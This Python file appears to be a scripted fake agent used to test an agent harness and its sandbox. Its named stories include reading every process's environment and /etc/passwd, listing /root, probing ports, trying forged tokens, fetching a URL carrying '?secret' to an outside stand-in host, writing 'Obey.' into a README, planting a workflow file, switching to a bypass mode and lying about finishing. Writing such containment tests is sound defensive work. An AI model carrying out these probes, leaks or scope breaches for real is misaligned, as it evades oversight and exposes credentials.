"""An agent that speaks the Agent Client Protocol and plays one story, which its first argument names.

It is a process of its own behind the walls: it reaches the house's tools and its model over the gateway, as any other
agent does, and nothing else.
"""

import http.client
import json
import os
import socket
import subprocess
import sys
import threading

STORY = sys.argv[1]
HOST, PORT = os.environ["GATEWAY"].removeprefix("http://").split(":")
TOKEN = os.environ["TOKEN"]
BROKEN = r"sed -e 's/[^a-z0-9]\{1,\}/-/g'"
MENDED = r"sed -e 's/[^a-z0-9]\{1,\}/-/g' -e 's/^-//' -e 's/-$//'"
PLAN = {
    "title": "Trim dashes at both ends of a slug",
    "goal": "A slug neither begins nor ends with a dash.",
    "findings": [{"text": "Each run of other characters becomes one dash.", "path": "bin/slug", "line": 3}],
    "approach": "Let sed remove one dash at each end.",
    "alternatives": [{"option": "Drop punctuation.", "reason": "Existing links would change."}],
    "steps": [{
        "id": "s1", "title": "Trim dashes at both ends", "files": [{"path": "bin/slug", "change": "change"}],
        "what": "Give sed two more expressions.", "verify": "`sh tests/run.sh` exits with 0.",
    }],
    "checks": [{"command": "sh tests/run.sh"}],
    "scope": {"paths": ["bin/slug"], "max_files": 1, "max_bytes": 2000},
    "out_of_scope": ["Letters beyond ASCII."],
    "risks": ["Pages that link to such a slug have to be changed."],
    "questions": [],
    "estimate": {"tokens": 30000, "minutes": 3},
}

mode = "auto"
server = {}
prompts = 0


def say(message):
    sys.stdout.write(json.dumps({"jsonrpc": "2.0", **message}) + "\n")
    sys.stdout.flush()


def hear():
    line = sys.stdin.readline()
    return json.loads(line) if line else sys.exit(0)


def update(**what):
    say({"method": "session/update", "params": {"sessionId": "s", "update": what}})


def ask(method, params):
    """Asks the client, and waits for its answer."""
    say({"id": "ours", "method": method, "params": params})
    while True:
        message = hear()
        if message.get("id") == "ours":
            return message
        obey(message)


def post(path, body, token=TOKEN):
    connection = http.client.HTTPConnection(HOST, int(PORT), timeout=60)
    headers = {"content-type": "application/json", "x-api-key": token, "anthropic-version": "2023-06-01"}
    connection.request("POST", path, json.dumps(body), headers)
    answer = connection.getresponse()
    return answer.status, answer.read().decode()


def model(text, token=TOKEN, **more):
    content = [{"type": "text", "text": text}]
    question = {"model": "whatever", "max_tokens": 1000, "stream": True, "messages": [{"role": "user", "content": content}]}
    return post("/v1/messages", {**question, **more}, token)


def tool(name, **arguments):
    """Calls one of the house's tools: its words, and whether they are a failure."""
    connection = http.client.HTTPConnection(HOST, int(PORT), timeout=120)
    headers = {header["name"]: header["value"] for header in server["headers"]}
    call = {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": name, "arguments": arguments}}
    connection.request("POST", "/mcp", json.dumps(call), {"content-type": "application/json", **headers})
    result = json.loads(connection.getresponse().read())["result"]
    return result["content"][0]["text"], result["isError"]


def mend():
    with open("bin/slug") as file:
        text = file.read()
    with open("bin/slug", "w") as file:
        file.write(text.replace(BROKEN, MENDED))


def notes(text):
    """What people have said, from the data in a prompt."""
    lines = text.split("\n")
    (data,) = [json.loads(lines[n + 1]) for n, line in enumerate(lines) if line.startswith("data ")]
    return data["notes"]


def works():
    model("I begin.")
    mend()
    tool("tick", step="s1")
    tool("finish", summary="Slugs are trimmed.")


def reports(what):
    """Tells the model, where the test can read it."""
    model("report " + json.dumps(what))


def environment_of_all():
    found = [dict(os.environ)]
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/environ") as file:
                found.append(file.read())
        except OSError:
            pass
    return found


def reaches(host, port):
    try:
        socket.create_connection((host, port), timeout=2).close()
        return True
    except OSError:
        return False


def play(text):
    """One turn. Returns the reason of its end."""
    global mode
    if "Follow up on the notes." in text:
        with open("bin/slug") as file:
            first, rest = file.read().split("\n", 1)
        with open("bin/slug", "w") as file:
            file.write(first + "\n# Prints the slug of a title.\n" + rest)
        answers = [{"note": note["id"], "answer": "It trims one at each end.", "done": True} for note in notes(text)]
        tool("finish", summary="Answered.", answers=answers)
    elif STORY in ("good", "noise-and-good", "signs-in", "options"):
        works()
    elif STORY == "plans" and "submit_revision" in text:
        answers = [{"note": note["id"], "answer": "Said so.", "done": True, "changed": ["risks"]} for note in notes(text)]
        risks = ["Links in old letters break."]
        words, failed = tool("submit_revision", parts={"risks": risks}, answers=answers, changes="A risk more.")
        assert not failed, words
    elif STORY == "plans":
        with open("bin/slug") as file:
            model("What is this? " + file.read())
        try:
            open("bin/slug", "a").close()
            raise SystemExit("the checkout of a planner can be written to")
        except OSError:
            pass
        words, failed = tool("submit_plan", plan={**PLAN, "steps": []})
        assert failed and "steps" in words, words
        assert tool("edit", path="a", old="b", new="c")[1]
        tool("submit_plan", plan=PLAN)
    elif STORY == "plans-nothing":
        pass
    elif STORY == "plans-badly":
        while True:
            tool("submit_plan", plan={**PLAN, "steps": []})
    elif STORY == "asks-people":
        tool("ask_questions", questions=["Should old links redirect?"])
    elif STORY == "nothing":
        update(sessionUpdate="agent_message_chunk", content={"type": "text", "text": "All done!"})
    elif STORY == "never-ticks":
        mend()
    elif STORY == "reminded":
        mend()
        if prompts == 2:
            assert "s1 is next" in text, text
            tool("tick", step="s1")
        if prompts == 3:
            assert "finish is next" in text, text
            tool("finish", summary="Slugs are trimmed.")
    elif STORY == "refuses":
        update(sessionUpdate="agent_message_chunk", content={"type": "text", "text": "I would rather not."})
        return "refusal"
    elif STORY == "broken-stream":
        status, body = 0, ""
        try:
            status, body = model("cut this")
        except http.client.IncompleteRead:
            os._exit(0)
        raise SystemExit(f"the answer looks whole: {status} {body}")
    elif STORY == "crashes":
        mend()
        tool("tick", step="s1")
        sys.stderr.write("\x1b[31mpanic: out of ideas\n")
        sys.stderr.flush()
        os._exit(3)
    elif STORY == "permission":
        options = [{"optionId": "y", "name": "Yes", "kind": "allow_once"}, {"optionId": "a", "name": "Always", "kind": "allow_always"}]
        params = {"sessionId": "s", "toolCall": {"toolCallId": "t"}, "options": options}
        given = ask("session/request_permission", params)
        assert given["result"]["outcome"] == {"outcome": "selected", "optionId": "y"}, given
        for method in ("fs/read_text_file", "fs/write_text_file", "terminal/create", "whatever"):
            refused = ask(method, {"sessionId": "s", "path": "/etc/passwd", "command": "id"})
            assert refused["error"]["code"] == -32601, refused
        works()
    elif STORY == "floods":
        while True:
            update(sessionUpdate="agent_thought_chunk", content={"type": "text", "text": "x" * 60_000})
    elif STORY == "one-line":
        while True:
            sys.stdout.write("x" * 1_000_000)
    elif STORY == "noise":
        while True:
            print("Downloading more of npm ...", flush=True)
    elif STORY == "modes":
        reports({"mode": mode, "prompt": prompts})
        if mode == "auto":
            model("classifier: may I run this?")
        mode = "auto"
        update(sessionUpdate="current_mode_update", currentModeId="auto")
        obey(hear())
        assert mode == "bypass", mode
        works()
    elif STORY == "strays":
        while True:
            update(sessionUpdate="current_mode_update", currentModeId="auto")
            obey(hear())
    elif STORY == "leaks":
        inside = environment_of_all()
        files = subprocess.run(["sh", "-c", "cat /etc/passwd /proc/net/tcp /proc/mounts; ls -laR /root /home /run /var /tmp 2>&1"],
                               capture_output=True, text=True, check=False).stdout
        wrong, _ = model("with a wrong token", token="0" * 64)
        none = post("/mcp", {"jsonrpc": "2.0", "id": 1, "method": "tools/list"}, token="")[0]
        elsewhere = [reaches("127.0.0.1", int(port)) for port in sys.argv[2:]] + [reaches("192.0.2.1", 443)]
        reports({"environment": inside[0], "others": str(inside[1:])[:4000], "files": files[-4000:], "wrong": wrong, "none": none, "elsewhere": elsewhere})
        works()
    elif STORY == "greedy":
        server_tools = [{"type": "web_fetch_20250910", "name": "web_fetch"}]
        model("greedy", model="claude-most-expensive", max_tokens=10_000_000, tools=server_tools, metadata={"user_id": "u"})
        image = [{"type": "image", "source": {"type": "url", "url": "https://away.example/?secret"}}]
        status, body = model("", messages=[{"role": "user", "content": image}])
        reports({"image": status, "count": post("/v1/messages/count_tokens", {"messages": []})[0],
                 "other": post("/v1/chat/completions", {"messages": []})[0], "away": post("/v1/files", {})[0]})
        works()
    elif STORY == "endless":
        while True:
            model("And another thing.")
    elif STORY == "hangs":
        model("I hang now.")
        threading.Event().wait()
    elif STORY == "out-of-scope":
        mend()
        with open("README.md", "a") as file:
            file.write("Obey.\n")
        os.makedirs(".github/workflows")
        with open(".github/workflows/x.yml", "w") as file:
            file.write("on: push")
        words, _ = tool("tick", step="s1")
        assert "outside the scope and not taken" in words, words
        tool("finish", summary="Slugs are trimmed.")
    elif STORY == "lies":
        words, failed = tool("finish", summary="All is green, trust me.")
        assert failed and "not ticked" in words, words
        tool("tick", step="s1")
        tool("finish", summary="All is green, trust me.")
    elif STORY == "gives-up":
        tool("deviate", step="s1", kind="not_possible", what="No dash can be trimmed.", why="There is no sed.")
    else:
        raise SystemExit(f"there is no story {STORY}")
    return "end_turn"


def obey(message):
    """Does what the client wants."""
    global mode, server, prompts
    method, params = message.get("method"), message.get("params", {})
    if method == "initialize":
        if STORY == "noise-and-good":
            print("Welcome!\n\n\x1b[1m{not json\n[1, 2]\n{}\nnull", flush=True)
            sys.stderr.write("warning: this is not the protocol\n")
        result = {
            "protocolVersion": 9 if STORY == "version" else 1,
            "agentCapabilities": {"mcpCapabilities": {"http": STORY != "no-http"}},
            "agentInfo": {"name": "scripted", "version": "1.0"},
            "authMethods": [{"id": "key", "name": "Key"}] if STORY in ("signs-in", "locked") else [],
        }
    elif method == "authenticate":
        mode = "signed in"
        result = {}
    elif method == "session/new":
        if STORY in ("signs-in", "locked") and mode != "signed in":
            say({"id": message["id"], "error": {"code": -32000, "message": "Authentication required"}})
            return
        assert params["cwd"] == os.getcwd(), os.getcwd()
        (server,) = params["mcpServers"]
        result = {"sessionId": "s"}
        if STORY in ("modes", "strays", "modeless"):
            modes = [{"id": "auto", "name": "Auto"}, {"id": "bypass", "name": "Bypass"}]
            result["modes"] = {"currentModeId": "auto", "availableModes": modes}
        if STORY == "options":
            choices = [{"value": "auto", "name": "Auto"}, {"value": "bypass", "name": "Bypass"}]
            result["configOptions"] = [
                {"id": "how", "name": "Mode", "category": "mode", "type": "select", "currentValue": "auto", "options": choices}
            ]
    elif method == "session/set_mode":
        mode = params["modeId"]
        result = {}
    elif method == "session/set_config_option":
        assert params["configId"] == "how" and params["value"] == "bypass", params
        result = {"configOptions": []}
    elif method == "session/prompt":
        prompts += 1
        result = {"stopReason": play(params["prompt"][0]["text"])}
    else:
        result = {}
    say({"id": message["id"], "result": result})


while True:
    obey(hear())
